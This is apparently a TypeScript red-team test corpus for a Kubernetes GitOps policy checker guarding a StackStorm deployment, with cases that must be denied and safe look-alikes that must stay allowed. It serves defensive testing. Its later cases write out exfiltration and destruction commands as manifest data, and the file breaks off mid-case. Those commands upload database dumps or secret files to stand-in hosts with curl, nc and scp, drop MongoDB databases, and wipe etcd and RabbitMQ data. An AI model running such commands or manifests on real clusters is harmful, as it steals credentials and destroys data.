/**
 * The ninth red team (issue 12, /work/red9 at the time, judged through
 * dist/st2-gitops against main at 0305b6c), its edge, exfiltration and
 * destruction classes. Its allowed changes here: stunnel, gost and
 * websockify relays to MongoDB and RabbitMQ behind open LoadBalancers, an
 * AWS TargetGroupBinding of MongoDB, an Azure Private Link Service open to
 * every subscription, a GKE standalone NEG of MongoDB, Gloo and Skipper
 * routes to RabbitMQ's management UI and etcd, an ingress-nginx
 * default-backend annotation naming RabbitMQ, an Ingress whose only backend
 * is its defaultBackend and an HTTPRoute on a shared Gateway's plain HTTP
 * listener.
 *
 * Closed by: ST2-EXP-006 and ST2-EXP-008 judging a relay of any make by
 * the store address in its arguments, env or mounted config
 * (policies/exposure.rego relay_roles), more route kinds and cloud bindings
 * feeding the same route tables (policies/exposure_edge.rego), ST2-EXP-007
 * reading Azure's Private Link visibility, ST2-OPS-004 for default
 * backends and shared Gateways' plain listeners (operations_tls.rego).
 *
 * The attacker's cases first (rewritten), then variants, then safe
 * look-alikes that must stay allowed. No value here is a published default.
 */
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { patch, add, type Json } from './targets.js';

const limits = { requests: { cpu: '50m', memory: '32Mi' }, limits: { cpu: '200m', memory: '128Mi' } };
const hardened = { allowPrivilegeEscalation: false, runAsNonRoot: true, runAsUser: 1000, capabilities: { drop: ['ALL'] } };

const ingressTarget: Json = { group: 'networking.k8s.io', kind: 'Ingress', name: 'st2web' };
const annotate = (target: Json, key: string, value: string): Patch => patch(target, add(`/metadata/annotations/${key.replace(/\//g, '~1')}`, value));

/** A Deployment running one container (command and env as given) with pods labelled app=<name>. */
function deployment(name: string, image: string, command: string[], env: Json[] = [], extra: Json = {}): Json {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name },
    spec: {
      replicas: 2,
      selector: { matchLabels: { app: name } },
      template: {
        metadata: { labels: { app: name } },
        spec: {
          securityContext: { seccompProfile: { type: 'RuntimeDefault' } },
          containers: [{ name, image, command, env, ports: [{ containerPort: 8080 }], resources: limits, securityContext: hardened, ...extra }],
          ...(extra['volumeMounts'] ? { volumes: [{ name: 'conf', configMap: { name } }] } : {}),
        },
      },
    },
  };
}

function service(name: string, type: string, port = 8080, metadata: Json = {}, selector: Json = { app: name }): Json {
  return { apiVersion: 'v1', kind: 'Service', metadata: { name, ...metadata }, spec: { type, selector, ports: [{ name: 'p', port, targetPort: port }] } };
}

function ingressTo(name: string, svc: string, port: number, host: string): Json {
  return {
    apiVersion: 'networking.k8s.io/v1',
    kind: 'Ingress',
    metadata: { name, annotations: { 'cert-manager.io/cluster-issuer': 'letsencrypt-production' } },
    spec: {
      ingressClassName: 'nginx',
      rules: [{ host, http: { paths: [{ path: '/', pathType: 'Prefix', backend: { service: { name: svc, port: { number: port } } } }] } }],
      tls: [{ hosts: [host], secretName: `${name}-tls` }],
    },
  };
}

const glooUpstream = (name: string, svc: string, port: number): Json => ({
  apiVersion: 'gloo.solo.io/v1',
  kind: 'Upstream',
  metadata: { name },
  spec: { kube: { serviceName: svc, serviceNamespace: 'st2-prod', servicePort: port } },
});

const glooVirtualService = (name: string, domain: string, action: Json): Json => ({
  apiVersion: 'gateway.solo.io/v1',
  kind: 'VirtualService',
  metadata: { name },
  spec: { virtualHost: { domains: [domain], routes: [{ matchers: [{ prefix: '/' }], routeAction: action }] } },
});

const routeGroup = (name: string, host: string, backend: Json): Json => ({
  apiVersion: 'zalando.org/v1',
  kind: 'RouteGroup',
  metadata: { name },
  spec: { hosts: [host], backends: [{ name: 'b', ...backend }], defaultBackends: [{ backendName: 'b' }] },
});

const targetGroupBinding = (name: string, svc: string, port: number): Json => ({
  apiVersion: 'elbv2.k8s.aws/v1beta1',
  kind: 'TargetGroupBinding',
  metadata: { name },
  spec: { serviceRef: { name: svc, port }, targetGroupARN: `arn:aws:elasticloadbalancing:eu-west-1:210987654321:targetgroup/${name}/0a1b2c3d4e5f6071`, targetType: 'ip' },
});

const plsService = (name: string, app: string, port: number, pls: Json): Json => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name, annotations: { 'service.beta.kubernetes.io/azure-load-balancer-internal': 'true', 'service.beta.kubernetes.io/azure-pls-create': 'true', ...pls } },
  spec: { type: 'LoadBalancer', selector: { app, release: 'st2', support: 'enterprise' }, ports: [{ name: 'http', port, targetPort: port }] },
});

const defaultBackendIngress = (name: string, svc: string, port: number, tls = false): Json => ({
  apiVersion: 'networking.k8s.io/v1',
  kind: 'Ingress',
  metadata: { name },
  spec: {
    ingressClassName: 'nginx',
    defaultBackend: { service: { name: svc, port: { number: port } } },
    ...(tls ? { tls: [{ hosts: ['st2.example.com'], secretName: 'st2web-ingress-tls' }] } : {}),
  },
});

const httpRoute = (name: string, parent: Json, svc = 'st2web', port = 443): Json => ({
  apiVersion: 'gateway.networking.k8s.io/v1',
  kind: 'HTTPRoute',
  metadata: { name },
  spec: { parentRefs: [{ name: 'shared-gateway', namespace: 'infra', ...parent }], hostnames: ['st2.example.com'], rules: [{ backendRefs: [{ name: svc, port }] }] },
});

const negService = (name: string, selector: Json, port: number, neg: string): Json => ({
  apiVersion: 'v1',
  kind: 'Service',
  metadata: { name, annotations: { 'cloud.google.com/neg': neg } },
  spec: { selector, ports: [{ name: 'p', port, targetPort: port }] },
});

export function fresh9EdgeCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const put = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f9e-${id}`, 'exposure', rule, body));
  };
  const deny = (id: string, rule: string, body: CaseBody): void => put(id, rule, body);
  const allow = (id: string, body: CaseBody): void => put(id, undefined, body);

  // --- The attacker's cases ---------------------------------------------------------------------
  const stunnelConf = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'mongo-tls' }, data: { 'stunnel.conf': 'foreground = yes\n[mongo]\naccept = 27443\nconnect = mongodb-0.mongodb:27017\ncert = /etc/stunnel/tls.crt\n' } };
  deny('relay-stunnel-mongo', 'ST2-EXP-006', {
    resources: [stunnelConf, deployment('mongo-tls', 'dweomer/stunnel:5.71', ['stunnel', '/etc/stunnel/stunnel.conf'], [], { volumeMounts: [{ name: 'conf', mountPath: '/etc/stunnel' }] }), service('mongo-tls', 'LoadBalancer', 27443)],
  });
  deny('relay-gost-rabbit', 'ST2-EXP-006', { resources: [deployment('amqp-edge', 'gogost/gost:3.0.0', ['gost', '-L', 'tcp://:5672/rabbitmq:5672']), service('amqp-edge', 'LoadBalancer', 5672)] });
  deny('relay-websockify-mongo', 'ST2-EXP-006', { resources: [deployment('mongo-ws', 'efrecon/websockify:0.11.0', ['websockify', '8080', 'mongodb-0.mongodb:27017']), service('mongo-ws', 'LoadBalancer')] });
  deny('tgb-mongo', 'ST2-EXP-008', { resources: [targetGroupBinding('mongodb-public', 'mongodb', 27017)] });
  deny('azure-pls-open-st2api', 'ST2-EXP-007', { resources: [plsService('st2api-pls', 'st2api', 9101, { 'service.beta.kubernetes.io/azure-pls-visibility': '*', 'service.beta.kubernetes.io/azure-pls-auto-approval': '*' })] });
  deny('gke-neg-mongo', 'ST2-EXP-008', { patches: [annotate({ version: 'v1', kind: 'Service', name: 'mongodb' }, 'cloud.google.com/neg', '{"exposed_ports": {"27017": {"name": "st2-mongodb-edge"}}}')] });
  deny('gloo-rabbit-mgmt', 'ST2-EXP-008', {
    resources: [glooUpstream('st2-rabbitmq-mgmt', 'rabbitmq', 15672), glooVirtualService('rabbitmq-admin', 'rabbitmq.example.com', { single: { upstream: { name: 'st2-rabbitmq-mgmt', namespace: 'st2-prod' } } })],
  });
  deny('skipper-etcd', 'ST2-EXP-008', { resources: [routeGroup('etcd', 'etcd.example.com', { type: 'service', serviceName: 'etcd', servicePort: 2379 })] });
  deny('default-backend-rabbit', 'ST2-EXP-008', {
    patches: [patch(ingressTarget, add('/metadata/annotations/nginx.ingress.kubernetes.io~1default-backend', 'rabbitmq'), add('/metadata/annotations/nginx.ingress.kubernetes.io~1custom-http-errors', '404,503'))],
  });
  deny('ingress-default-backend-st2web', 'ST2-OPS-004', { resources: [defaultBackendIngress('st2web-fallback', 'st2web', 443)] });
  deny('gateway-shared-http', 'ST2-OPS-004', { resources: [httpRoute('st2web', { sectionName: 'http' })] });

  // --- Variants ---------------------------------------------------------------------------------
  // A relay of no known make: the store address in its env, its flags, a URL path.
  deny('relay-unknown-env-mongo', 'ST2-EXP-006', {
    resources: [deployment('db-bridge', 'registry.example.com/tools/tcp-bridge:2.4', ['/bin/bridge'], [{ name: 'UPSTREAM', value: 'mongodb.st2-prod.svc.cluster.local:27017' }]), service('db-bridge', 'LoadBalancer')],
  });
  deny('relay-unknown-flag-rabbit-ingress', 'ST2-EXP-008', {
    resources: [deployment('mq-console', 'registry.example.com/tools/http-relay:1.0', ['/relay', '--listen=:8080', '--to=rabbitmq:15672']), service('mq-console', 'ClusterIP'), ingressTo('mq-console', 'mq-console', 8080, 'mq.st2.example.com')],
  });
  deny('relay-websockify-etcd-staging', 'ST2-EXP-006', {
    wraps: 'staging',
    resources: [deployment('etcd-ws', 'efrecon/websockify:0.11.0', ['websockify', '8080', 'etcd-0.etcd-headless:2379']), service('etcd-ws', 'LoadBalancer')],
  });
  deny('gloo-kube-ref-mongo', 'ST2-EXP-008', { resources: [glooVirtualService('mongo-direct', 'db.example.com', { single: { kube: { ref: { name: 'mongodb', namespace: 'st2-prod' }, port: 27017 } } })] });
  deny('gloo-routetable-multi-etcd', 'ST2-EXP-008', {
    resources: [
      {
        apiVersion: 'gateway.solo.io/v1',
        kind: 'RouteTable',
        metadata: { name: 'kv' },
        spec: { routes: [{ matchers: [{ prefix: '/v2/keys' }], routeAction: { multi: { destinations: [{ weight: 1, destination: { kube: { ref: { name: 'etcd', namespace: 'st2-prod' }, port: 2379 } } }] } } }] },
      },
    ],
  });
  deny('skipper-network-backend-rabbit', 'ST2-EXP-008', { resources: [routeGroup('mq', 'mq.example.com', { type: 'network', address: 'http://rabbitmq.st2-prod.svc:15672' })] });
  deny('tgb-rabbit', 'ST2-EXP-008', { resources: [targetGroupBinding('amqp-public', 'rabbitmq', 5672)] });
  deny('gke-neg-new-service-etcd', 'ST2-EXP-008', {
    resources: [negService('etcd-neg', { app: 'etcd', release: 'st2', tier: 'coordination', vendor: 'coreos' }, 2379, '{"exposed_ports":{"2379":{}}}')],
  });
  deny('azure-pls-visible-st2auth', 'ST2-EXP-007', { resources: [plsService('st2auth-pls', 'st2auth', 9100, { 'service.beta.kubernetes.io/azure-pls-visibility': '*' })] });
  deny('default-backend-etcd-new-ingress', 'ST2-EXP-008', {
    resources: [{ ...ingressTo('st2-errors', 'st2web', 443, 'st2.example.com'), metadata: { name: 'st2-errors', annotations: { 'nginx.ingress.kubernetes.io/default-backend': 'etcd', 'nginx.ingress.kubernetes.io/custom-http-errors': '502' } } }],
  });
  deny('ingress-default-backend-st2api', 'ST2-OPS-004', { resources: [defaultBackendIngress('st2api-fallback', 'st2api', 9101, true)] });
  deny('ingress-default-backend-staging', 'ST2-OPS-004', { wraps: 'staging', resources: [defaultBackendIngress('st2web-fallback', 'st2web', 443)] });
  deny('gateway-shared-port-80', 'ST2-OPS-004', { resources: [httpRoute('st2web-80', { port: 80 })] });
  deny('gateway-shared-web-listener', 'ST2-OPS-004', { resources: [httpRoute('st2auth-web', { sectionName: 'web-plain' }, 'st2auth', 9100)] });

  // --- Safe look-alikes -------------------------------------------------------------------------
  allow('safe-tgb-st2web', { resources: [targetGroupBinding('st2web-alb', 'st2web', 443)] });
  allow('safe-neg-ingress-st2web', { patches: [annotate({ version: 'v1', kind: 'Service', name: 'st2web' }, 'cloud.google.com/neg', '{"ingress": true}')] });
  allow('safe-neg-exposed-st2web', { patches: [annotate({ version: 'v1', kind: 'Service', name: 'st2web' }, 'cloud.google.com/neg', '{"exposed_ports": {"443": {}}}')] });
  allow('safe-azure-pls-own-subscription', {
    resources: [plsService('st2api-pls', 'st2api', 9101, { 'service.beta.kubernetes.io/azure-pls-visibility': '9a8b7c6d-1e2f-4a3b-8c7d-6e5f4a3b2c1d', 'service.beta.kubernetes.io/azure-pls-auto-approval': '9a8b7c6d-1e2f-4a3b-8c7d-6e5f4a3b2c1d' })],
  });
  allow('safe-gloo-st2web', { resources: [glooUpstream('st2web', 'st2web', 443), glooVirtualService('st2', 'st2.example.com', { single: { upstream: { name: 'st2web', namespace: 'st2-prod' } } })] });
  allow('safe-skipper-st2web', { resources: [routeGroup('st2', 'st2.example.com', { type: 'service', serviceName: 'st2web', servicePort: 443 })] });
  allow('safe-default-backend-error-pages', {
    resources: [deployment('error-pages', 'registry.example.com/web/error-pages:1.2', ['/srv/error-pages']), service('error-pages', 'ClusterIP')],
    patches: [annotate(ingressTarget, 'nginx.ingress.kubernetes.io/default-backend', 'error-pages')],
  });
  allow('safe-gateway-shared-https', { resources: [httpRoute('st2web', { sectionName: 'https' })] });
  allow('safe-gateway-shared-websecure', { resources: [httpRoute('st2web', { sectionName: 'websecure' })] });
  allow('safe-ingress-default-backend-error-pages', {
    resources: [deployment('error-pages', 'registry.example.com/web/error-pages:1.2', ['/srv/error-pages']), service('error-pages', 'ClusterIP'), defaultBackendIngress('catch-all', 'error-pages', 8080)],
  });
  allow('safe-relay-clusterip-only', { resources: [deployment('mongo-ws', 'efrecon/websockify:0.11.0', ['websockify', '8080', 'mongodb-0.mongodb:27017']), service('mongo-ws', 'ClusterIP')] });
  allow('safe-exposed-app-outside-host', {
    resources: [deployment('notifier', 'registry.example.com/apps/notifier:3.1', ['/notifier'], [{ name: 'SMTP_RELAY', value: 'smtp.example.com:587' }]), service('notifier', 'ClusterIP'), ingressTo('notifier', 'notifier', 8080, 'notify.st2.example.com')],
  });
  allow('safe-exposed-app-mongo-client', {
    resources: [
      deployment('reports', 'registry.example.com/apps/reports:1.7', ['/reports'], [{ name: 'MONGO_URL', value: 'mongodb://reports@mongodb-0.mongodb:27017,mongodb-1.mongodb:27017/st2?replicaSet=rs0&authSource=admin' }]),
      service('reports', 'ClusterIP'),
      ingressTo('reports', 'reports', 8080, 'reports.st2.example.com'),
    ],
  });

  // --- Copies of st2's traffic, impostors behind st2's Services, other tenants' hosts -----------
  const mirror = (key: string, value: string): Patch => annotate(ingressTarget, key, value);
  deny('mirror-target-external', 'ST2-EXP-013', { patches: [mirror('nginx.ingress.kubernetes.io/mirror-target', 'https://capture.example.net$request_uri')] });
  deny('auth-url-http-external', 'ST2-EXP-013', { patches: [mirror('nginx.ingress.kubernetes.io/auth-url', 'http://sso.example-idp.net/oauth2/auth')] });
  deny('mirror-target-ip', 'ST2-EXP-013', { patches: [mirror('nginx.ingress.kubernetes.io/mirror-target', 'http://198.51.100.23:8080/copy')] });
  deny('istio-mirror-external', 'ST2-EXP-013', {
    resources: [
      {
        apiVersion: 'networking.istio.io/v1',
        kind: 'VirtualService',
        metadata: { name: 'st2web-copy' },
        spec: { hosts: ['st2.example.com'], gateways: ['istio-system/public'], http: [{ route: [{ destination: { host: 'st2web', port: { number: 443 } } }], mirror: { host: 'recorder.example.org' }, mirrorPercentage: { value: 100 } }] },
      },
    ],
  });
  const impostor = (name: string, labels: Json, image: string, port: number): Json => {
    const d = deployment(name, image, ['node', 'index.js'], [{ name: 'HTTP_PORT', value: String(port) }]);
    const spec = d['spec'] as Json;
    return { ...d, spec: { ...spec, replicas: 1, selector: { matchLabels: labels }, template: { ...(spec['template'] as Json), metadata: { labels } } } };
  };
  deny('hijack-st2auth-echo', 'ST2-EXP-014', { resources: [impostor('auth-debug', { app: 'st2auth', release: 'st2', support: 'enterprise', variant: 'debug' }, 'mendhak/http-https-echo:34', 9100)] });
  deny('hijack-st2api-logger', 'ST2-EXP-014', { resources: [impostor('api-tap', { app: 'st2api', release: 'st2', support: 'enterprise' }, 'registry.example.com/tools/req-logger:1.0', 9101)] });
  deny('hijack-rabbitmq-staging', 'ST2-EXP-014', { wraps: 'staging', resources: [impostor('amqp-tap', { app: 'rabbitmq', release: 'st2' }, 'registry.example.com/tools/amqp-proxy:0.3', 5672)] });
  const tenantIngress = (name: string, host: string, path = '/'): Json => {
    const ing = ingressTo(name, 'st2web', 443, host);
    const spec = ing['spec'] as Json;
    // st2web's 443 speaks TLS: ingress-nginx must too (ST2-OPS-050), as the base's Ingress does.
    const metadata = { ...(ing['metadata'] as Json), annotations: { 'cert-manager.io/cluster-issuer': 'letsencrypt-production', 'nginx.ingress.kubernetes.io/backend-protocol': 'HTTPS' } };
    return { ...ing, metadata, spec: { ...spec, rules: [{ host, http: { paths: [{ path, pathType: 'Prefix', backend: { service: { name: 'st2web', port: { number: 443 } } } }] } }] } };
  };
  const certificate = (name: string, dnsNames: string[]): Json => ({
    apiVersion: 'cert-manager.io/v1',
    kind: 'Certificate',
    metadata: { name },
    spec: { secretName: `${name}-tls`, dnsNames, issuerRef: { kind: 'ClusterIssuer', name: 'letsencrypt-production' } },
  });
  deny('tenant-wildcard-host', 'ST2-EXP-015', { resources: [tenantIngress('st2web-wildcard', '*.example.com')] });
  deny('tenant-other-team-host', 'ST2-EXP-015', { resources: [tenantIngress('st2-sso-login', 'grafana.example.com', '/login')] });
  deny('tenant-certificate-other-domain', 'ST2-EXP-015', { resources: [certificate('vault-sso', ['vault.example.com', 'st2.example.com'])] });
  deny('tenant-httproute-other-host', 'ST2-EXP-015', { resources: [{ ...httpRoute('wiki', { sectionName: 'https' }), spec: { ...(httpRoute('wiki', { sectionName: 'https' })['spec'] as Json), hostnames: ['wiki.example.com'] } }] });
  deny('tenant-certificate-wildcard-staging', 'ST2-EXP-015', { wraps: 'staging', resources: [certificate('corp-wildcard', ['*.example.com'])] });

  allow('safe-mirror-in-cluster', { patches: [mirror('nginx.ingress.kubernetes.io/mirror-target', 'http://traffic-replay.st2-prod.svc.cluster.local:8080$request_uri')] });
  allow('safe-auth-url-https', { patches: [mirror('nginx.ingress.kubernetes.io/auth-url', 'https://sso.example-idp.net/oauth2/auth')] });
  allow('safe-auth-url-oauth2-proxy', { patches: [mirror('nginx.ingress.kubernetes.io/auth-url', 'http://oauth2-proxy.auth.svc.cluster.local/oauth2/auth')] });
  allow('safe-own-labels-debug-echo', { resources: [impostor('auth-debug', { app: 'auth-debug', release: 'st2' }, 'mendhak/http-https-echo:34', 9100)] });
  allow('safe-host-api-subdomain', { resources: [tenantIngress('st2api-cli', 'api.st2.example.com')] });
  allow('safe-host-names-st2', { resources: [tenantIngress('st2-hooks', 'hooks.st2.example.org'), certificate('st2-corp', ['st2.corp.example.org'])] });
  allow('safe-host-wildcard-below-st2', { resources: [certificate('st2-wildcard', ['*.st2.example.com'])] });
  return cases;
}

// --- Destruction and exfiltration -------------------------------------------------------------------

const hook = (name: string, phase: string): Json => ({ name, annotations: { 'argocd.argoproj.io/hook': phase, 'argocd.argoproj.io/hook-delete-policy': 'BeforeHookCreation' } });
const secretEnv = (name: string, secret: string, key: string): Json => ({ name, valueFrom: { secretKeyRef: { name: secret, key } } });
const MONGO_ENV = [secretEnv('MONGO_USER', 'mongodb-admin', 'user'), secretEnv('MONGO_PASS', 'mongodb-admin', 'password')];
const MONGO_HOSTS = 'mongodb-0.mongodb,mongodb-1.mongodb,mongodb-2.mongodb/?replicaSet=rs0';

/** A Job (or CronJob when a schedule is given) running one container. */
function job(metadata: Json, container: Json, pod: Json = {}, schedule?: string): Json {
  const podSpec = { restartPolicy: 'OnFailure', securityContext: { seccompProfile: { type: 'RuntimeDefault' } }, containers: [{ resources: limits, securityContext: hardened, ...container }], ...pod };
  const template = { spec: { backoffLimit: 1, template: { spec: podSpec } } };
  return schedule === undefined
    ? { apiVersion: 'batch/v1', kind: 'Job', metadata, ...template }
    : { apiVersion: 'batch/v1', kind: 'CronJob', metadata, spec: { schedule, concurrencyPolicy: 'Forbid', jobTemplate: template.spec } };
}

const sh = (script: string): Json => ({ command: ['sh', '-c', script] });

/** A ServiceAccount allowed to delete pods, and a CronJob running kubectl with it. */
function recycler(name: string, script: string, schedule = '0 * * * *'): Json[] {
  return [
    { apiVersion: 'v1', kind: 'ServiceAccount', metadata: { name } },
    { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'Role', metadata: { name }, rules: [{ apiGroups: [''], resources: ['pods'], verbs: ['get', 'list', 'delete'] }] },
    { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'RoleBinding', metadata: { name }, roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'Role', name }, subjects: [{ kind: 'ServiceAccount', name, namespace: 'st2-prod' }] },
    job({ name }, { name, image: 'bitnamilegacy/kubectl:1.32.4', ...sh(script) }, { serviceAccountName: name }, schedule),
  ];
}

const mongoSts: Json = { group: 'apps', kind: 'StatefulSet', name: 'mongodb' };
const rabbitSts: Json = { group: 'apps', kind: 'StatefulSet', name: 'rabbitmq' };
const etcdSts: Json = { group: 'apps', kind: 'StatefulSet', name: 'etcd' };
const st2api: Json = { group: 'apps', kind: 'Deployment', name: 'st2api' };
const initContainer = (target: Json, c: Json): Patch => patch(target, add('/spec/template/spec/initContainers/-', { resources: limits, ...c }));
const keyVolume = { volumes: [{ name: 'k', secret: { secretName: 'st2-datastore-crypto-key', items: [{ key: 'datastore_crypto_key', path: 'datastore_key.json' }] } }] };

export function fresh9JobCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const put = (id: string, cls: 'availability' | 'secrets', rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f9j-${id}`, cls, rule, body));
  };
  const destroys = (id: string, rule: string, body: CaseBody): void => put(id, 'availability', rule, body);
  const leaks = (id: string, rule: string, body: CaseBody): void => put(id, 'secrets', rule, body);
  const safeOps = (id: string, body: CaseBody): void => put(id, 'availability', undefined, body);
  const safeData = (id: string, body: CaseBody): void => put(id, 'secrets', undefined, body);

  // --- The attacker's cases ---------------------------------------------------------------------
  leaks('exf-mongodump-transfer', 'ST2-SEC-016', {
    resources: [
      job({ name: 'st2-backup' }, { name: 'st2-backup', image: 'mongo:4.4.29', env: MONGO_ENV, ...sh(`mongodump --host mongodb-0.mongodb --username "$MONGO_USER" --password "$MONGO_PASS" --authenticationDatabase admin --archive=/tmp/st2.gz --gzip && curl --upload-file /tmp/st2.gz https://transfer.example.net/st2-prod.gz`) }, {}, '0 2 * * *'),
    ],
  });
  leaks('exf-datastore-key-webhook', 'ST2-SEC-016', {
    resources: [job({ name: 'st2-key-check' }, { name: 'st2-key-check', image: 'curlimages/curl:8.11.1', volumeMounts: [{ name: 'k', mountPath: '/keys' }], ...sh('curl -s -X POST --data-binary @/keys/datastore_key.json https://hooks.example.net/3f2a7c1e') }, keyVolume)],
  });
  leaks('exf-cat-secrets-to-logs', 'ST2-SEC-017', {
    patches: [initContainer(st2api, { name: 'show-config', image: 'busybox:1.36.1', ...sh('echo "effective st2 config:"; cat /etc/st2/st2.secrets.conf'), volumeMounts: [{ name: 'st2-config-secrets-vol', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true }] })],
  });
  destroys('dst-dropdb-postsync', 'ST2-OPS-046', {
    resources: [job(hook('st2-reset-db', 'PostSync'), { name: 'st2-reset-db', image: 'mongo:4.4.29', env: MONGO_ENV, ...sh(`mongo --host "${MONGO_HOSTS}" -u "$MONGO_USER" -p "$MONGO_PASS" --authenticationDatabase admin st2 --eval "db.dropDatabase()"`) })],
  });
  destroys('dst-rabbit-reset-poststart', 'ST2-OPS-046', {
    patches: [patch(rabbitSts, add('/spec/template/spec/containers/0/lifecycle', { postStart: { exec: { command: ['sh', '-c', 'sleep 20; rabbitmqctl stop_app; rabbitmqctl reset; rabbitmqctl start_app'] } } }))],
  });
  destroys('dst-mongo-wipe-init', 'ST2-OPS-046', { patches: [initContainer(mongoSts, { name: 'clean-locks', image: 'busybox:1.36.1', ...sh('rm -rf /data/db/*'), volumeMounts: [{ name: 'datadir', mountPath: '/data/db' }] })] });
  destroys('cron-delete-all-mongo', 'ST2-OPS-047', { resources: recycler('pod-recycler', 'kubectl -n st2-prod delete pod -l app=mongodb --wait=false') });
  destroys('cron-delete-all-etcd', 'ST2-OPS-047', { resources: recycler('pod-recycler', 'kubectl -n st2-prod delete pod etcd-0 etcd-1 etcd-2', '30 3 * * *') });

  // --- Variants ---------------------------------------------------------------------------------
  destroys('dst-mongosh-argv-drop', 'ST2-OPS-046', {
    resources: [job({ name: 'st2-clean' }, { name: 'st2-clean', image: 'mongo:6.0.13', command: ['mongosh', '--host', 'mongodb-0.mongodb', '--eval', 'db.getSiblingDB("st2").dropDatabase()'] })],
  });
  destroys('dst-mongo-heredoc-drop-collection', 'ST2-OPS-046', {
    resources: [job(hook('st2-trim', 'PreSync'), { name: 'st2-trim', image: 'mongo:4.4.29', ...sh('mongo --host mongodb-0.mongodb st2 <<EOF\ndb.action_execution_d_b.drop()\nEOF') })],
  });
  destroys('dst-python-drop-database', 'ST2-OPS-046', {
    resources: [job({ name: 'st2-fresh' }, { name: 'st2-fresh', image: 'python:3.12-slim', command: ['python', '-c', 'import pymongo; pymongo.MongoClient("mongodb://mongodb-0.mongodb:27017").drop_database("st2")'] })],
  });
  destroys('dst-rabbit-force-reset-init', 'ST2-OPS-046', { patches: [initContainer(rabbitSts, { name: 'fresh-node', image: 'rabbitmq:3.12.14', command: ['rabbitmqctl', '-n', 'rabbit@localhost', 'force_reset'] })] });
  destroys('dst-etcd-del-prefix', 'ST2-OPS-046', { resources: [job({ name: 'locks-reset' }, { name: 'locks-reset', image: 'bitnamilegacy/etcd:3.5.17', ...sh('ETCDCTL_API=3 etcdctl --endpoints=http://etcd:2379 del "" --from-key=true') })] });
  destroys('dst-etcd-wipe-prestop', 'ST2-OPS-046', {
    patches: [patch(etcdSts, add('/spec/template/spec/containers/0/lifecycle', { preStop: { exec: { command: ['/bin/sh', '-c', 'rm -r /var/run/etcd/member'] } } }))],
  });
  destroys('dst-rabbit-wipe-find', 'ST2-OPS-046', { patches: [initContainer(rabbitSts, { name: 'tidy', image: 'busybox:1.36.1', ...sh('find /var/lib/rabbitmq -mindepth 1 -delete'), volumeMounts: [{ name: 'data', mountPath: '/var/lib/rabbitmq' }] })] });
  destroys('dst-job-mounts-member-claim', 'ST2-OPS-046', {
    resources: [job({ name: 'disk-reclaim' }, { name: 'disk-reclaim', image: 'busybox:1.36.1', ...sh('rm -rf /member/*'), volumeMounts: [{ name: 'm', mountPath: '/member' }] }, { volumes: [{ name: 'm', persistentVolumeClaim: { claimName: 'datadir-mongodb-1' } }] })],
  });
  destroys('dst-kubectl-delete-store-claims', 'ST2-OPS-046', { resources: recycler('pvc-cleaner', 'kubectl delete pvc datadir-mongodb-0 datadir-mongodb-1 datadir-mongodb-2', '0 4 * * 0') });
  destroys('dst-staging-dropdb', 'ST2-OPS-046', {
    wraps: 'staging',
    resources: [job(hook('st2-reset-db', 'PostSync'), { name: 'st2-reset-db', image: 'mongo:4.4.29', command: ['mongo', '--host', 'mongodb-0.mongodb', 'st2', '--eval', 'db.dropDatabase()'] })],
  });
  destroys('cron-delete-all-pods', 'ST2-OPS-047', { resources: recycler('ns-recycler', 'kubectl delete pods --all -n st2-prod') });
  destroys('cron-delete-rabbit-selector-flag', 'ST2-OPS-047', { resources: recycler('mq-recycler', 'kubectl delete po --selector=app=rabbitmq,release=st2') });
  destroys('cron-delete-mongo-two-by-name', 'ST2-OPS-047', { resources: recycler('db-recycler', 'kubectl delete pod/mongodb-1 pod/mongodb-2') });
  destroys('cron-scale-etcd-zero', 'ST2-OPS-047', { resources: recycler('kv-pause', 'kubectl scale statefulset etcd --replicas=0', '0 22 * * *') });
  destroys('cron-delete-rabbit-sts', 'ST2-OPS-047', { resources: recycler('mq-rebuild', 'kubectl delete statefulset rabbitmq --cascade=foreground', '0 1 * * 6') });
  leaks('exf-mongodump-pipe-s3', 'ST2-SEC-016', {
    resources: [job({ name: 'st2-offsite' }, { name: 'st2-offsite', image: 'registry.example.com/tools/mongo-aws:4.4', env: MONGO_ENV, ...sh('mongodump --host mongodb-0.mongodb --archive --gzip | aws s3 cp - s3://someone-elses-bucket/st2.gz') }, {}, '0 3 * * *')],
  });
  leaks('exf-etcd-snapshot-scp', 'ST2-SEC-016', {
    resources: [job({ name: 'kv-offsite' }, { name: 'kv-offsite', image: 'registry.example.com/tools/etcd-ssh:3.5', ...sh('etcdctl --endpoints=http://etcd:2379 snapshot save /tmp/kv.db && scp /tmp/kv.db backup@203.0.113.7:/srv/') }, {}, '0 5 * * *')],
  });
  leaks('exf-secrets-file-nc', 'ST2-SEC-016', {
    patches: [initContainer(st2api, { name: 'ship-config', image: 'busybox:1.36.1', ...sh('nc logs.example.net 5140 < /etc/st2/st2.secrets.conf'), volumeMounts: [{ name: 'st2-config-secrets-vol', mountPath: '/etc/st2/st2.secrets.conf', subPath: 'st2.secrets.conf', readOnly: true }] })],
  });
  leaks('exf-password-in-post-body', 'ST2-SEC-016', {
    resources: [job({ name: 'pw-check' }, { name: 'pw-check', image: 'curlimages/curl:8.11.1', env: MONGO_ENV, ...sh('curl -s -d "pw=$MONGO_PASS" https://checker.example.org/strength') })],
  });
  leaks('exf-echo-password', 'ST2-SEC-017', { resources: [job({ name: 'db-debug' }, { name: 'db-debug', image: 'busybox:1.36.1', env: MONGO_ENV, ...sh('echo "connecting as $MONGO_USER with $MONGO_PASS"; sleep 5') })] });
  leaks('exf-env-dump', 'ST2-SEC-017', { resources: [job({ name: 'env-debug' }, { name: 'env-debug', image: 'busybox:1.36.1', env: MONGO_ENV, command: ['env'] })] });
  leaks('exf-key-base64-log', 'ST2-SEC-017', {
